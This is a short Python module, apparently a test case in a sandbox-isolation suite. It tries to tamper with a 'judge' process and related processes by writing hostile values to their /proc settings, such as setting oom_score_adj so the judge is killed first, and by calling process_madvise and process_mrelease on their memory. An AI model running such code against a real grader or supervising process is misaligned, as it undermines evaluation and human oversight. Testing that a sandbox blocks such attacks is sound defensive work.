# attack: Writes to the settings of the judge in /proc: oom_score_adj, timer slack, dump filter, name, memory advice.
# hurts: Makes the judge the first to be killed when memory is short.
# ends: returns
import os

from _raw import attempt, call

SETTINGS = {
    "oom_score_adj": "1000",
    "oom_adj": "15",
    "timerslack_ns": "999999",
    "coredump_filter": "0",
    "comm": "x",
    "clear_refs": "1",
}


def attack(target):
    tried = []
    for pid in (target["judge_pid"], target["starter_pid"], target["sibling_outer_pid"], os.getppid()):
        if pid == 0:
            continue
        tried += [attempt(name, written, f"/proc/{pid}/{name}", text) for name, text in SETTINGS.items()]
        process, error = call("pidfd_open", pid, 0)
        if not error:
            piece = target["address"].to_bytes(8, "little") + (4096).to_bytes(8, "little")
            tried.append(f"advice: {call('process_madvise', process, piece, 1, 21, 0)}, {call('process_mrelease', process, 0)}")
            os.close(process)
    return tried


def written(path, text):
    descriptor = os.open(path, os.O_WRONLY)
    try:
        return os.write(descriptor, text.encode())
    finally:
        os.close(descriptor)
